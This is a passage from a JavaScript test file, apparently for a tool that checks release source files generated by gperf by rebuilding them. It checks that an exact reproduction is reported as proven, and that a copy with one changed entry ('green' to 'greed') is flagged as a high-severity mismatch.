    expect(f).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'gperf', version: '3.2', toolchain: { name: 'gperf-3.2-6d53a2dbe0ad', commit: expect.stringMatching(/^6d53a2d/) } } });
    expect(f.evidence).not.toHaveProperty('bannerVersion');
    expect(formatFinding(f)).toContain('reproduced by gperf 3.2 built from');
    // tampered twin: the same file with one changed entry under its 3.2 banner
    const twin = out.replace('"green"', '"greed"');
    expect(twin).not.toBe(out);
    const { at: at2 } = await findingsOf(release({ 'src/codes.h': twin }), 'auto', cache32);
    expect(at2('src/codes.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'gperf', version: '3.2', differingLines: 1, toolchain: { name: 'gperf-3.2-6d53a2dbe0ad' } } });
  }, 1_200_000);
});
